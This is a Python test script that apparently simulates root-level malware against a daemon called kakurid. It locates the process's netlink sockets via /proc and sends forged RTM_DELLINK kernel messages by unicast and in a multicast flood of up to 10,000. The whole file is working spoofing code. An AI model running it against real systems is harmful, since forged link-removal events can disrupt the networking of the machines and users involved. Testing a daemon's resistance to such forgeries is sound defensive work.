#!/usr/bin/env python3
# nlforge.py PID IFINDEX IFNAME [N]: root malware posing as the kernel to
# kakurid (t-past-hooks).  A forged RTM_DELLINK for IFINDEX (IFNAME) is
# sent (1) as unicast to every netlink socket of process PID, found by
# matching its socket inodes with /proc/net/netlink, and (2) N times (1)
# to rtnetlink's link group, as the kernel's events go.  Prints "unicast
# SENT REFUSED" and "multicast N": kakurid's sockets are connected to the kernel, so the
# kernel refuses a process's unicast to them (ECONNREFUSED).
import os, socket, struct, sys
pid, ifindex, ifname = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3].encode() + b"\0"
inodes = set()
for fd in os.listdir("/proc/%d/fd" % pid):
    try:
        t = os.readlink("/proc/%d/fd/%s" % (pid, fd))
    except OSError:
        continue
    if t.startswith("socket:["):
        inodes.add(int(t[8:-1]))
ports = []
with open("/proc/net/netlink") as f:
    next(f)
    for line in f:
        c = line.split()
        if int(c[-1]) in inodes and int(c[2]) != 0:
            ports.append(int(c[2]))
attr = struct.pack("=HH", 4 + len(ifname), 3) + ifname
attr += b"\0" * ((4 - len(attr) % 4) % 4)
body = struct.pack("=BBHiII", 0, 0, 1, ifindex, 0, 0) + attr
msg = struct.pack("=IHHII", 16 + len(body), 17, 0, 0, 0) + body
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
s.bind((0, 0))
sent = refused = 0
for p in ports:
    try:
        s.sendto(msg, (p, 0))
        sent += 1
    except ConnectionRefusedError:
        refused += 1
print("unicast %d %d" % (sent, refused))
n = int(sys.argv[4]) if len(sys.argv) > 4 else 1
for _ in range(min(n, 10000)):
    s.sendto(msg, (0, 1))	# RTNLGRP_LINK
print("multicast %d" % min(n, 10000))
